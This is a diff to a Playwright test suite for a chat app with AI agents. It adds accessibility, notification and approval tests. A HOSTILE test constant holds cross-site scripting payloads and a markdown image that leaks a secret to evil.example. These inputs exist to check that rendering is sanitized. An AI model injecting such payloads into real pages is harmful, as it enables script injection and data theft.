@@ -18,12 +18,14 @@ from playwright.async_api import Browser, Page, expect
 
 from bullpen.testing import NO_LIMITS
 from tests.cli.processes import free_port, running
-from tests.page.house import House, Visit, claimed
+from tests.page.house import PASSWORD, House, Visit, claimed, cookie_in
 
 AXE = Path(__file__).parents[2] / "ui" / "node_modules" / "axe-core" / "axe.min.js"
 HOSTILE = """[click](javascript:alert(1)) <img src=x onerror="document.title='owned'"> <svg/onload=alert(2)>
 ![secret](https://evil.example/?d=SECRET)
 <script>document.title='owned'</script> [good](https://good.example/page) [a lie](https://evil.example/)"""
+
+CITY = {"type": "object", "properties": {"city": {"type": "string", "title": "City"}}, "required": ["city"]}
 
 
 async def busy_room(house: House) -> str:
@@ -68,6 +70,21 @@ async def serious(visit: Visit, page: Page) -> list[str]:
     ]
 
 
+async def room_with_a_form(house: House) -> str:
+    await house.tool("form")
+    form = {"calls": [{"tool": "form", "args": {"title": "Where to?", "schema": CITY}}]}
+    room = await house.room(await house.agent("Fay", form, tools=["messaging", "form"]))
+    await house.post(room, "a form, please")
+    return room
+
+
+async def newcomer(house: House, name: str) -> Any:
+    """Somebody who is in no room yet and has not seen the tour."""
+    await house.ask("POST", "/people", json={"name": name, "password": PASSWORD})
+    async with httpx.AsyncClient(base_url=f"{house.url}/api") as http:
+        return cookie_in(await http.post("/session", json={"name": name, "password": PASSWORD}), house.url)
+
+
 @pytest.mark.parametrize("theme", ["light", "dark"])
 async def test_axe_finds_nothing_serious_on_any_page(house: House, browser: Browser, theme: str) -> None:
     room = await busy_room(house)
@@ -86,19 +103,41 @@ async def test_axe_finds_nothing_serious_on_any_page(house: House, browser: Brow
     await page.keyboard.press("Control+k")
     await expect(page.get_by_role("combobox", name="Search or jump to")).to_be_visible()
     found["palette"] = await serious(visit, page)
+    for panel, name in (("thread", "Replies"), ("why", "Why?")):
+        await visit.go(f"/rooms/{room}?panel={panel}:{(await house.messages(room))[-2]['id']}")
+        await expect(page.get_by_role("complementary", name=name)).to_be_visible()
+        await expect(page.get_by_label("Loading")).to_have_count(0)
+        found[panel] = await serious(visit, page)
     schedule = {"scheduleType": "cron", "scheduleValue": "0 9 * * *"}
     body = {"spaceId": room, "agentId": agent, "prompt": "Say good morning.", **schedule}
     task = (await house.ask("POST", "/tasks", json=body))["id"]
     work = ("/pending", "/runs", f"/runs/{run}", "/tasks", f"/tasks/{task}", "/agents", f"/agents/{agent}")
-    for path in (*work, "/search?q=figures", "/settings"):
+    connect = f"/agents/{agent}?tab=Model+and+limits"
+    for path in (*work, connect, "/search?q=figures", "/settings"):
         await visit.go(path)
         await expect(page.locator("main h1")).to_be_visible()
         await expect(page.get_by_label("Loading")).to_have_count(0)
         found[path] = await serious(visit, page)
+    await page.set_viewport_size({"width": 390, "height": 800})
+    for path in (f"/rooms/{room}", "/rooms", "/pending"):
+        await visit.go(path)
+        await expect(page.get_by_role("navigation", name="Main, below").or_(page.get_by_role("log"))).to_be_visible()
+        await expect(page.get_by_label("Loading")).to_have_count(0)
+        found[f"{path} on a phone"] = await serious(visit, page)
+    await page.set_viewport_size({"width": 1280, "height": 800})
     await visit.context.clear_cookies()
     await visit.go("/")
     await expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
     found["door"] = await serious(visit, page)
+    form = await room_with_a_form(house)
+    await visit.context.add_cookies([await newcomer(house, theme)])
+    await visit.go("/")
+    await expect(page.get_by_role("heading", name="Welcome")).to_be_visible()
+    found["welcome"] = await serious(visit, page)
+    await page.get_by_role("button", name=f"Join {form}").click()
+    await expect(page.get_by_role("region", name="Start here")).to_be_visible()
+    await expect(page.get_by_role("region", name="Where to?").get_by_label("City")).to_be_visible()
+    found["tour and form"] = await serious(visit, page)
     await visit.close()
     assert not any(found.values()), json.dumps(found, indent=1)
 
@@ -314,34 +353,74 @@ async def test_several_tabs_share_one_stream(house: House, visit: Visit) -> None
     assert len(streams) == 1
 
 
+STUB_NOTIFICATIONS = """() => { window.shown = [];
+const show = (title, options) => { window.shown.push([title, options.body]) };
+ServiceWorkerRegistration.prototype.showNotification = async (...args) => show(...args);
+const granted = { permission: 'granted', requestPermission: async () => 'granted' };
+window.Notification = Object.assign(function (...args) { show(...args) }, granted);
+document.hasFocus = () => false; }"""
+
+
+async def wants_notifications(visit: Visit) -> Page:
+    page = await visit.go("/settings")
+    await page.evaluate(STUB_NOTIFICATIONS)
+    await page.get_by_label(re.compile("Notify me")).click()
+    await expect(page.get_by_label(re.compile("Notify me"))).to_be_checked()
+    return page
+
+
 async def test_it_can_be_installed_and_notifies_of_a_mention(house: House, browser: Browser) -> None:
     visit = Visit(house, browser)
-    page = await visit.open(house.cookie, permissions=["notifications"])
-    await visit.go("/settings")
+    await visit.open(house.cookie, permissions=["notifications"])
     async with httpx.AsyncClient(base_url=house.url) as http:
         manifest = (await http.get("/assets/manifest.webmanifest")).json()
         assert manifest["display"] == "standalone"
         for icon in manifest["icons"]:
             assert (await http.get(icon["src"])).status_code == 200
-    await page.evaluate(
-        """() => { window.shown = [];
-        const show = (title, options) => { window.shown.push([title, options.body]) };
-        ServiceWorkerRegistration.prototype.showNotification = async (...args) => show(...args);
-        const granted = { permission: 'granted', requestPermission: async () => 'granted' };
-        window.Notification = Object.assign(function (...args) { show(...args) }, granted);
-        document.hasFocus = () => false; }"""
-    )
-    await page.get_by_label(re.compile("Notify me")).click()
-    await expect(page.get_by_label(re.compile("Notify me"))).to_be_checked()
+    page = await wants_notifications(visit)
     cookie = await house.cookie_of("Bo")
     room = await house.room(house.ids["Bo"])
     async with httpx.AsyncClient(base_url=f"{house.url}/api", cookies={cookie["name"]: cookie["value"]}) as http:
         headers = {"Origin": house.url}
         await http.post(f"/spaces/{room}/messages", json={"text": "nothing for anybody"}, headers=headers)
         await http.post(f"/spaces/{room}/messages", json={"text": "hey @Olga, look"}, headers=headers)
-    await page.wait_for_function("window.shown.length > 0")
+    await page.wait_for_function("() => window.shown.length > 0")
     assert await page.evaluate("window.shown") == [[f"Bo in #{room}", "hey @Olga, look"]]
     await visit.close()
+
+
+async def test_an_approval_calls_those_who_may_give_it_and_nobody_else(house: House, browser: Browser) -> None:
+    await house.tool("wipe_disk", executionType="internal", visible=True, isAsync=False, policy="ask", timeout=60_000)
+    agent = await house.agent("Rex", {"calls": [{"tool": "wipe_disk", "args": {}}]}, tools=["messaging", "wipe_disk"])
+    bo = await house.cookie_of("Bo")
+    room = await house.room(agent, house.ids["Bo"], wake={"people": "all", "agents": "none"})
+    pages = []
+    for cookie in (house.cookie, bo):
+        visit = Visit(house, browser)
+        await visit.open(cookie, permissions=["notifications"])
+        pages.append((visit, await wants_notifications(visit)))
+    await house.post(room, "do it")
+    (owner, olgas), (member, bos) = pages
+    await olgas.wait_for_function("() => window.shown.length > 0")
+    assert await olgas.evaluate("window.shown") == [[f"{agent.capitalize()} waits for you", "wipe_disk"]]
+    await house.post(room, "stop it, @Bo")  # what comes after has been heard, so what came before has been, too
+    await bos.wait_for_function("() => window.shown.some(each => each[1].includes('stop it'))")
+    assert await bos.evaluate("window.shown") == [[f"Olga in #{room}", "stop it, @Bo"]]
+    for visit in (owner, member):
+        await visit.close()
+
+
+async def test_whoever_wants_no_motion_gets_none(house: House, visit: Visit) -> None:
+    agent = await house.agent("Slow", {"delay_ms": 120_000, "text": "at last"})
+    room = await house.room(agent)
+    page = await visit.room(room)
+    await house.post(room, "take your time")
+    dots = page.get_by_role("status").filter(has_text="is thinking").locator("i").first
+    await expect(dots).to_have_css("animation-name", "none")
+    await page.emulate_media(reduced_motion="no-preference")
+    await expect(dots).to_have_css("animation-name", re.compile("up"))
+    (run,) = (await house.ask("GET", "/runs", params={"spaceId": room}))["items"]
+    await house.ask("POST", f"/runs/{run['id']}/cancel")
 
 
 async def test_typing_in_a_storm_of_events_loses_no_letter(house: House, visit: Visit) -> None:
